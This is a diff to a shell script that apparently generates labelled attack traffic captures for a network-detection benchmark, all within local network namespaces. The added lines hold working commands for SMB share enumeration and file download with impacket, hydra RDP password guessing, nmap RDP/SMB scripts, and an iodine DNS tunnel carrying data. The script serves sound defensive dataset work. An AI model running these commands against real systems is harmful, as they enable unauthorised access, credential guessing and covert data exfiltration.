@@ -25,6 +25,8 @@ HERE="$(cd "$(dirname "$0")" && pwd)"
 RAW="$OUT/attacks"
 W="$OUT/.gen"
 PY=/usr/bin/python3
+# Debian tools (impacket-* wrappers call `python3`) must not pick up another Python first on PATH.
+export PATH="/usr/sbin:/usr/bin:/sbin:/bin:$PATH"
 mkdir -p "$RAW" "$W"
 [ "$(id -u)" = 0 ] || { echo "gen-attacks: needs root (network namespaces)" >&2; exit 2; }
 
@@ -187,7 +189,7 @@ cap() {
   kill "$tp"; wait "$tp" 2>/dev/null || true
   local pk; pk=$(capinfos -c -M "$f" 2>/dev/null | awk -F: '/Number of packets/{gsub(/ /,"",$2);print $2}')
   local dur; dur=$(echo "$(date +%s.%N) - $t0" | bc)
-  echo "{\"id\":\"$id\",\"file\":\"attacks/$id.pcap\",\"family\":\"$fam\",\"tool\":\"$tool\",\"roles\":\"$roles\",\"peer\":\"$peer\",\"heldout\":$held,\"attacker\":{\"ip\":\"$ATT_IP\",\"mac\":\"$ATT_MAC\"},\"victim\":{\"ip\":\"$VIC_IP\",\"mac\":\"$VIC_MAC\"},\"net\":\"$NET.0/24\",\"rc\":$rc,\"packets\":${pk:-0},\"wallS\":$dur,\"cmd\":$(printf '%s' "$*" | $PY -c 'import json,sys;print(json.dumps(sys.stdin.read()))')}" >>"$INDEX.tmp"
+  echo "{\"id\":\"$id\",\"file\":\"attacks/$id.pcap\",\"family\":\"$fam\",\"tool\":\"$tool\",\"roles\":\"$roles\",\"peer\":\"$peer\",\"heldout\":$held,\"attacker\":{\"ip\":\"$ATT_IP\",\"mac\":\"$ATT_MAC\"},\"victim\":{\"ip\":\"${CAP_VIC_IP:-$VIC_IP}\",\"mac\":\"${CAP_VIC_MAC:-$VIC_MAC}\"},\"net\":\"$NET.0/24\",\"rc\":$rc,\"packets\":${pk:-0},\"wallS\":$dur,\"cmd\":$(printf '%s' "$*" | $PY -c 'import json,sys;print(json.dumps(sys.stdin.read()))')}" >>"$INDEX.tmp"
   echo "gen-attacks: $id ($fam/$tool) rc=$rc packets=${pk:-0} ${dur}s" >&2
 }
 
@@ -245,12 +247,38 @@ if want lateral; then
     "head -c 400000 /dev/urandom > $W/drop.exe; for h in 20 31 32; do smbclient -N //$NET.\$h/public -c 'put $W/drop.exe svc.exe; ls' || true; done"
   cap lat-impacket-rpcdump lateral impacket-rpcdump attacker lan false 60 bash -c \
     "impacket-rpcdump -port 445 guest@$VIC_IP -no-pass; impacket-rpcdump -port 135 $VIC_IP -no-pass || true"
+  cap lat-impacket-smb lateral impacket-smbconnection attacker lan false 60 $PY -c \
+    "from impacket.smbconnection import SMBConnection
+for h in ['$VIC_IP', '$NET.31', '$NET.32']:
+    try:
+        c = SMBConnection(h, h, timeout=3); c.login('guest', '')
+        for s in c.listShares(): print(s['shi1_netname'])
+        for f in c.listPath('public', '*'): print(f.get_longname())
+        c.getFile('public', 'backup.tar', lambda d: None); c.close()
+    except Exception as e: print(h, e)"
   cap lat-impacket-samrdump lateral impacket-samrdump attacker lan true 60 impacket-samrdump -no-pass "guest@$VIC_IP"
-  cap lat-rdp-attempts lateral xfreerdp attacker lan true 60 bash -c \
-    "for h in 20 31 32 33; do timeout 5 xfreerdp /v:$NET.\$h /u:admin /p:admin /cert:ignore +auth-only >/dev/null 2>&1 || true; done"
+  if command -v xrdp >/dev/null; then
+    ip netns exec nmlb-vic xrdp -n -p 3389 >"$W/xrdp.log" 2>&1 &
+    PIDS+=($!)
+    sleep 2
+  fi
+  printf 'Password1\nadmin\nqwerty\nletmein\nWelcome1\n' > "$W/pw5.txt"
+  cap lat-rdp-hydra lateral hydra-rdp attacker lan true 90 hydra -L "$W/users2.txt" -P "$W/pw5.txt" -t 1 -W 1 -I "rdp://$VIC_IP"
+  cap lat-rdp-nmap-scripts lateral nmap-rdp-scripts attacker lan true 90 nmap -n -Pn -p 3389,445 --script rdp-enum-encryption,rdp-ntlm-info,smb-os-discovery "$VIC_IP,31-33"
 fi
 
 if want dnstunnel; then
+  # iodine: a real DNS tunnel (forced to DNS with -r) to iodined on a dummy host, then data through it.
+  if command -v iodined >/dev/null && [ -e /dev/net/tun ]; then
+    ip netns exec nmlb-d37 iodined -f -c -P nmlb-bench-pw 10.77.0.1 t.tun.example.test >"$W/iodined.log" 2>&1 &
+    PIDS+=($!)
+    sleep 2
+    ip netns exec nmlb-d37 timeout 200 bash -c "nc -l -k 10.77.0.1 7777 >/dev/null" &
+    PIDS+=($!)
+    CAP_VIC_IP=$NET.37 CAP_VIC_MAC=02:66:00:00:00:37 \
+      cap dns-iodine-tunnel dnstunnel iodine attacker public true 100 bash -c \
+      "iodine -f -r -P nmlb-bench-pw $NET.37 t.tun.example.test & I=\$!; sleep 6; ping -c 15 -i 0.4 10.77.0.1; head -c 120000 /dev/urandom | timeout 40 nc -N 10.77.0.1 7777; kill \$I"
+  fi
   cap dns-txt-longnames dnstunnel dig-txt attacker public false 120 bash -c \
     "for i in \$(seq 1 150); do dig +short +tries=1 +time=1 @$VIC_IP TXT \$(head -c 30 /dev/urandom | base32 -w0 | tr -d = | tr A-Z a-z).\$i.t.cdn-update.example.test >/dev/null; sleep 0.1; done"
   cap dns-a-hexchunks dnstunnel dig-a attacker public false 120 bash -c \
